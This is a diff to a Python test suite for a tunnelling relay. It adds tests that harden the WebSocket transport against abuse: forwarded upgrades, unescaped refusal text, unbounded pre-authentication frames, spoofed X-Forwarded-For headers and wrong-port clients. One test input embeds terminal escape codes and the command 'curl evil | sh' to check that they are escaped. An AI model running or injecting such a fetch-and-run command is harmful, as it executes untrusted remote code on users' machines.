@@ -1467,7 +1467,12 @@ class EndToEnd(EndToEndBase):
             s = socket.create_connection(("127.0.0.1", self.relay.control_port), WAIT)
             self.addCleanup(s.close)
             s.sendall(junk)
-            self.assertEqual(closed_by_peer(s), b"")   # closed at once, nothing answered
+            answer = closed_by_peer(s)      # closed at once, nothing answered but to HTTP,
+            if junk.startswith(b"GET"):     # which is told this is the control port
+                self.assertTrue(answer.startswith(b"HTTP/1.1 400 "), answer)
+                self.assertIn(b"control port", answer)
+            else:
+                self.assertEqual(answer, b"")
         self.assertEqual(self.get("/hello")[:2], (200, b"hello"))
 
     def handshake_by_hand(self, subdomain):
@@ -4928,14 +4933,17 @@ class UsabilityTest(EndToEndBase):
             cases.append((serve + [flag, "-5"], flag[:18]))
         for flag in ("--head-timeout", "--idle-timeout", "--handshake-timeout"):
             cases.append((serve + [flag, "0"], flag))
-        running = [(args, what, self.spawn(*args)) for args, what in cases]
-        for args, what, p in running:
-            _, err = p.communicate(timeout=WAIT)
-            text = err.decode()
-            self.assertEqual(p.returncode, 2, (args, text))
-            self.assertEqual(len(text.strip().splitlines()), 1, (args, text))
-            self.assertIn(what, text, args)
-            self.assertNotIn("Traceback", text)
+        batch = 2 * (os.cpu_count() or 2)   # all at once would queue for the CPUs past
+        for start in range(0, len(cases), batch):   # any per-process limit
+            running = [(args, what, self.spawn(*args)) for args, what in
+                       cases[start:start + batch]]
+            for args, what, p in running:
+                _, err = p.communicate(timeout=WAIT)
+                text = err.decode()
+                self.assertEqual(p.returncode, 2, (args, text))
+                self.assertEqual(len(text.strip().splitlines()), 1, (args, text))
+                self.assertIn(what, text, args)
+                self.assertNotIn("Traceback", text)
 
     def test_http_url_target_is_host_and_port(self):
         self.assertEqual(tunnel.parse_target("http://localhost:5000"), ("localhost", 5000))
@@ -7527,6 +7535,116 @@ class ProxiedCommandLineTest(unittest.TestCase):
         self.assertEqual(err.decode().strip().splitlines()[-1], "tunnel.py: proxy 127.0.0.1:%d "
                          "refused the credentials for me (407)" % proxy.port)
         self.assertNotIn(b"Traceback", err)
+
+
+class TransportAbuseTest(EndToEndBase):
+    """What the second look at the WebSocket transport found, each shown to fail before
+    its fix: an upgrade to a tunnel's name handed to that tunnel's owner, unescaped
+    refusals, frames without end before authentication, every client behind one load
+    balancer sharing one source, and clients at the wrong port left waiting."""
+
+    setUp = WebSocketRelayTests.setUp
+    upgrade = WebSocketRelayTests.upgrade
+    read_head = WebSocketRelayTests.read_head
+    status_of = WebSocketRelayTests.status_of
+
+    def test_upgrade_to_a_tunnel_name_is_never_forwarded(self):
+        relay = self.start_relay(control_port=None)
+        self.start_client("relay", relay=relay, relay_port=relay.http_port,
+                          relay_scheme="http", relay_host="127.0.0.1")   # mallory's tunnel
+        before = len(self.origin.requests) if hasattr(self.origin, "requests") else None
+        for protocol in (tunnel.WS_PROTOCOL, tunnel.WS_PROTOCOL_TLS, "x, tunnel.py.2"):
+            s = self.upgrade(relay, host="relay.localhost", protocol=protocol)
+            head, rest = self.read_head(s)
+            self.assertEqual(self.status_of(head), 400, head)
+            self.assertIn(b"connect to the relay itself", rest + recv_all(s))
+        if before is not None:
+            self.assertEqual(len(self.origin.requests), before)
+        # An ordinary WebSocket of that tunnel (its own subprotocol) still goes through.
+        s = self.raw(b"GET /ws HTTP/1.1\r\nHost: relay.localhost\r\nUpgrade: websocket\r\n"
+                     b"Connection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-"
+                     b"Version: 13\r\n\r\n" % tunnel.ws_key().encode(), relay=relay)
+        self.assertTrue(recv_until(s, b"\r\n\r\n").startswith(b"HTTP/1.1 101"))
+
+    def test_refusal_text_is_escaped_before_it_is_shown(self):
+        hs = ClientHandshake(TOKEN, {"subdomain": None})
+        hs.start()
+        payload = json.dumps({"error": "x\x1b[2J", "message": "\x1b]0;owned\x07run "
+                              "curl evil | sh" + "A" * 1000}).encode()
+        with self.assertRaises(tunnel.RefusedError) as caught:
+            hs.receive(tunnel.Frame(tunnel.FrameType.REFUSE, 0, 0, payload))
+        text = str(caught.exception)
+        self.assertNotIn("\x1b", text)
+        self.assertIn("\\x1b]0;owned", text)
+        self.assertLessEqual(len(text), tunnel.MAX_REFUSAL_TEXT)
+        self.assertNotIn("\x1b", caught.exception.code)
+
+    def test_frames_before_authentication_are_bounded(self):
+        relay = self.relay = self.start_relay(control_port=None, handshake_timeout=30.0)
+        s = self.upgrade(relay)
+        head, _ = self.read_head(s)
+        self.assertEqual(self.status_of(head), 101)
+        started = time.monotonic()
+        frames = [tunnel.ws_frame(tunnel.WSOpcode.PING if i % 2 else tunnel.WSOpcode.BINARY,
+                                  b"", True) for i in range(tunnel.WS_PREAUTH_FRAMES + 1)]
+        s.sendall(b"".join(frames))
+        try:
+            while s.recv(65536):          # PONGs, a CLOSE 1002, then the end
+                pass
+        except ConnectionResetError:
+            pass
+        self.assertLess(time.monotonic() - started, 5.0)    # not the 30 s timeout
+        wait_until(lambda: self.relay_stats(relay)["sessions"] == 0, what="session gone")
+        self.assertTrue(any("more WebSocket frames than a handshake takes" in m
+                            for m in self.capture.messages()))
+        # An honest client's handshake and a real transfer are far inside the bound.
+        client, _ = self.start_client("honest", relay=relay, relay_port=relay.http_port,
+                                      relay_scheme="http", relay_host="127.0.0.1")
+        body = os.urandom(2 << 20)
+        status, data, _ = self.get("/echo", host="honest.localhost", method="POST", body=body)
+        self.assertEqual(json.loads(data)["sha256"], hashlib.sha256(body).hexdigest())
+
+    def hold_websockets(self, relay, forwarded_for, n):
+        held = []
+        for _ in range(n):
+            head = tunnel.ws_upgrade_request("localhost", tunnel.WS_PATH, tunnel.ws_key(),
+                                             tunnel.WS_PROTOCOL,
+                                             (("X-Forwarded-For", forwarded_for),))
+            s = self.raw(head, relay=relay)
+            held.append(self.status_of(self.read_head(s)[0]))
+        return held
+
+    def test_trusted_proxy_clients_count_by_forwarded_for(self):
+        # Everyone behind one load balancer (127.0.0.1 here) shares its address, so a
+        # few silent WebSockets would lock out every client; --trusted-proxy counts
+        # each by the address the balancer saw.
+        relay = self.start_relay(control_port=None, max_unauthenticated_per_source=2,
+                                 trusted_proxies=("127.0.0.0/8",))
+        self.assertEqual(self.hold_websockets(relay, "198.51.100.7", 3), [101, 101, 503])
+        self.assertEqual(self.hold_websockets(relay, "10.1.1.1, 198.51.100.8", 1), [101])
+        # A spoofed hop to the left of the balancer's does not help the attacker.
+        self.assertEqual(self.hold_websockets(relay, "203.0.113.9, 198.51.100.7", 1), [503])
+        # Without --trusted-proxy the header means nothing: one source, 127.0.0.1.
+        plain = self.start_relay(control_port=None, max_unauthenticated_per_source=2)
+        self.assertEqual(self.hold_websockets(plain, "198.51.100.7", 2), [101, 101])
+        self.assertEqual(self.hold_websockets(plain, "198.51.100.99", 1), [503])
+
+    def test_clients_at_the_wrong_port_are_told_at_once(self):
+        relay = self.start_relay()              # plaintext control port and visitor port
+        started = time.monotonic()
+        for first in (tunnel.encode_preamble() + tunnel.encode_frame(tunnel.FrameType.HELLO,
+                                                                     0, b"n" * 32),
+                      b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"):   # a ClientHello
+            data = recv_all(self.raw(first, relay=relay))
+            self.assertEqual(self.status_of(data), 400, data[:80])
+            self.assertIn(b"--relay http://HOST:PORT", data)
+        s = socket.create_connection(("127.0.0.1", relay.control_port), WAIT)
+        self.addCleanup(s.close)
+        s.sendall(b"GET /_tunnel HTTP/1.1\r\nHost: localhost\r\n\r\n")
+        data = recv_all(s)
+        self.assertEqual(self.status_of(data), 400, data[:80])
+        self.assertIn(b"control port", data)
+        self.assertLess(time.monotonic() - started, 2.0)     # not after a timeout
 
 
 
